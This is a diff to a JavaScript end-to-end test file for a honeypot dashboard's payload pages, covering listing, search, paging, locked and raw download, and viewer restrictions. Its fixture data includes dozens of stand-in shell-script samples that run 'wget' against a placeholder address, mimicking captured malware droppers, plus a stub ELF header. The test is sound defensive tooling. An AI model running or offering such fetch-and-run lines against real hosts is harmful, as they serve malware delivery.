@@ -1,8 +1,10 @@
 // The public page, payloads, vulnerabilities and sensors in a real browser
 // against the real binary.
 import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { readFileSync } from 'node:fs';
 import { createServer } from 'node:http';
-import { get } from 'node:https';
+import { get, request } from 'node:https';
 import { after, afterEach, before, describe, test } from 'node:test';
 import { setTimeout as pause } from 'node:timers/promises';
 import { event, launch, newPage, Palisade, shot, signIn, violations } from './palisade.mjs';
@@ -67,6 +69,23 @@ async function deliver(domain, events) {
   keys[domain] ??= hub.command(['key', 'add', `${domain}-sender`, '--scope', 'ingest', '--domain', domain]).trim().split(/\s+/).find((word) => word.startsWith('pal_'));
   hub.key = keys[domain];
   assert.ok(await hub.deliver(events));
+}
+
+/** Posts alerts with captured bytes, as T-Pot does; the status of the answer. */
+function capture(payloads) {
+  const at = new Date().toISOString().slice(0, 19).replace('T', ' ');
+  const alerts = payloads.map(
+    (bytes, n) => `<Alert><Analyzer id="dionaea"/><CreateTime tz="+0000">${at}</CreateTime>
+      <Source category="ipv4" port="${1024 + n}" protocol="tcp">8.8.4.4</Source><Target category="ipv4" port="445" protocol="tcp">203.0.113.5</Target>
+      <Request type="binary">${bytes.toString('base64')}</Request></Alert>`,
+  );
+  const body = `<EWS-SimpleMessage version="3.0"><Authentication><username>trap</username><token>a long token of the trap</token></Authentication>${alerts.join('')}</EWS-SimpleMessage>`;
+  return new Promise((done, fail) => {
+    const options = { method: 'POST', headers: { 'Content-Length': Buffer.byteLength(body) }, rejectUnauthorized: false };
+    const sent = request(`${hub.url}/ews-0.1/alert/postSimpleMessage`, options, (answer) => (answer.resume(), answer.on('end', () => done(answer.statusCode))));
+    sent.on('error', fail);
+    sent.end(body);
+  });
 }
 
 before(async () => {
@@ -243,20 +262,106 @@ describe('payloads', { timeout: 240_000 }, () => {
     const sha256 = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
     await deliver('private', ['jaws.sh', '<b>x</b>'].map((payload_name) => attack('private', { kind: 'data.received', payload: sha256, payload_name })));
     await page.getByRole('link', { name: 'Payloads' }).click();
+    await page.getByText('Nothing is kept yet').waitFor();
+    await page.getByRole('tab', { name: 'Named in events' }).click();
+    await page.waitForURL(/view=named/);
     const row = page.locator(`tr[data-key="${sha256}"]`);
     await row.waitFor({ timeout: 30_000 });
-    await shot(page, 'payloads-light-1440');
+    await shot(page, 'payloads-named-1440');
     assert.deepEqual(await violations(page), []);
     await row.getByRole('link').click();
     await page.waitForURL(/payload=9f86d081/);
     const side = page.getByRole('region', { name: 'Details of the payload' });
     await side.getByText('2 events from 1 addresses').waitFor();
     await side.getByText('<b>x</b>').waitFor();
-    await shot(page, 'payloads-open-1440');
+    await shot(page, 'payloads-named-open-1440');
     assert.deepEqual(await violations(page), []);
     await side.getByRole('link', { name: 'Events behind it' }).click();
     await page.waitForURL(/explore\?q=payload/);
     await page.locator('[role=grid] [role=row][aria-selected]').nth(1).waitFor();
+  });
+
+  test('what is kept has its type and size, is found and paged through, and is given out locked', async () => {
+    hub.command(['user', 'add', 'trap', '--ews', '--token-stdin'], 'a long token of the trap');
+    const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(4089)]);
+    const sha256 = createHash('sha256').update(elf).digest('hex');
+    const others = [...Array(55)].map((_, n) => Buffer.from(`#!/bin/sh\nwget http://192.0.2.1/${n}\n`));
+    assert.equal(await capture([elf, ...others]), 200);
+    const long = `${'very-long-name-'.repeat(20)}.bin`;
+    await deliver('private', [attack('private', { kind: 'payload.captured', payload: sha256, payload_name: long })]);
+    await page.goto(`${hub.url}/payloads`);
+    const rows = page.locator('tbody tr');
+    const row = page.locator(`tr[data-key="${sha256}"]`);
+    await page.getByText('56 known, 56 kept').waitFor({ timeout: 20_000 });
+    assert.equal(await rows.count(), 50);
+    await shot(page, 'payloads-light-1440');
+    assert.deepEqual(await violations(page), []);
+    await page.getByRole('button', { name: 'Older' }).click();
+    await page.waitForURL(/cursor=/);
+    await page.waitForFunction(() => document.querySelectorAll('tbody tr').length === 6);
+    await page.goBack();
+    await page.waitForFunction(() => document.querySelectorAll('tbody tr').length === 50);
+
+    // By type, by the beginning of a hash, by a part of a name.
+    await page.getByLabel('Type').selectOption('Programs');
+    await page.waitForFunction(() => document.querySelectorAll('tbody tr').length === 1);
+    await row.getByText('application/x-executable').waitFor();
+    await row.getByText('4.0').waitFor();
+    await page.getByLabel('Type').selectOption('All types');
+    const search = page.getByRole('searchbox');
+    for (const text of [sha256.slice(0, 10), 'long-name-very', 'application/x-']) {
+      await search.fill(text);
+      await page.waitForFunction(() => document.querySelectorAll('tbody tr').length === 1, undefined, { timeout: 20_000 });
+      await row.waitFor();
+    }
+    await search.fill('nothing like this');
+    await page.getByText('None fits').waitFor();
+    await search.fill(sha256.slice(0, 10));
+    await row.waitFor();
+    await row.getByText('private', { exact: true }).waitFor({ timeout: 20_000 });
+    const counted = async (hash) => (await (await fetch(`/api/v1/payloads/${hash}`)).json()).events_total === 2;
+    await page.waitForFunction(counted, sha256, { polling: 250, timeout: 20_000 });
+
+    await row.getByRole('link').click();
+    const side = page.getByRole('region', { name: 'Details of the payload' });
+    await side.getByText(createHash('md5').update(elf).digest('hex')).waitFor();
+    await side.getByText('2 in all').waitFor({ timeout: 20_000 });
+    await side.getByText(long.slice(0, 60)).waitFor();
+    await shot(page, 'payloads-open-1440');
+    assert.deepEqual(await violations(page), []);
+    await page.setViewportSize({ width: 390, height: 844 });
+    assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), 'details fit a phone');
+    assert.ok(await side.evaluate((node) => node.scrollWidth <= node.clientWidth && [...node.querySelectorAll('.body')].every((body) => body.scrollWidth <= body.clientWidth)), 'a long name wraps');
+    await shot(page, 'payloads-open-390');
+    await side.getByRole('button', { name: 'Download…' }).click();
+    const dialog = page.getByRole('dialog', { name: 'Download what an attacker brought' });
+    await dialog.getByText('Treat it as malware').waitFor();
+    await shot(page, 'payloads-download-390');
+    assert.deepEqual(await violations(page), []);
+    await page.setViewportSize({ width: 1440, height: 900 });
+    await shot(page, 'payloads-download-1440');
+    const [zip] = await Promise.all([page.waitForEvent('download'), dialog.getByRole('button', { name: 'Download the archive' }).click()]);
+    assert.equal(zip.suggestedFilename(), `${sha256}.zip`);
+    const packed = readFileSync(await zip.path());
+    assert.equal(packed.subarray(0, 2).toString(), 'PK');
+    assert.ok(packed.includes(sha256) && !packed.includes('ELF'), 'it is locked');
+    await side.getByRole('button', { name: 'Download…' }).click();
+    await dialog.getByLabel('The bytes as they are').check();
+    const [raw] = await Promise.all([page.waitForEvent('download'), dialog.getByRole('button', { name: 'Download the bytes' }).click()]);
+    assert.equal(raw.suggestedFilename(), `${sha256}.bin`);
+    assert.ok(readFileSync(await raw.path()).equals(elf));
+    await page.keyboard.press('Escape');
+    await side.waitFor({ state: 'detached' });
+
+    // Who may not operate sees what events say, and no bytes.
+    hub.addUser('watcher', 'viewer');
+    const viewer = await newPage(browser);
+    await signIn(viewer, `${hub.url}/payloads`, 'watcher');
+    await viewer.locator(`tr[data-key="${sha256}"]`).getByRole('link').click();
+    await viewer.getByRole('region', { name: 'Details of the payload' }).getByText('2 events from').waitFor();
+    assert.equal(await viewer.getByRole('tab').count() + (await viewer.getByRole('button', { name: 'Download…' }).count()), 0);
+    assert.deepEqual(viewer.complaints, []);
+    await viewer.context().close();
   });
 });
 
@@ -286,7 +391,7 @@ describe('sensors', { timeout: 240_000 }, () => {
 
   test('these pages work in the dark and on a phone', async () => {
     await page.emulateMedia({ colorScheme: 'dark' });
-    for (const [path, name] of [['cves', 'cves'], ['sensors?view=installations', 'sensors'], ['payloads', 'payloads']]) {
+    for (const [path, name] of [['cves', 'cves'], ['sensors?view=installations', 'sensors'], ['payloads', 'payloads'], ['payloads?view=named', 'payloads-named']]) {
       await page.setViewportSize({ width: 1440, height: 900 });
       await page.goto(`${hub.url}/${path}`);
       await page.locator('tbody tr').first().waitFor();
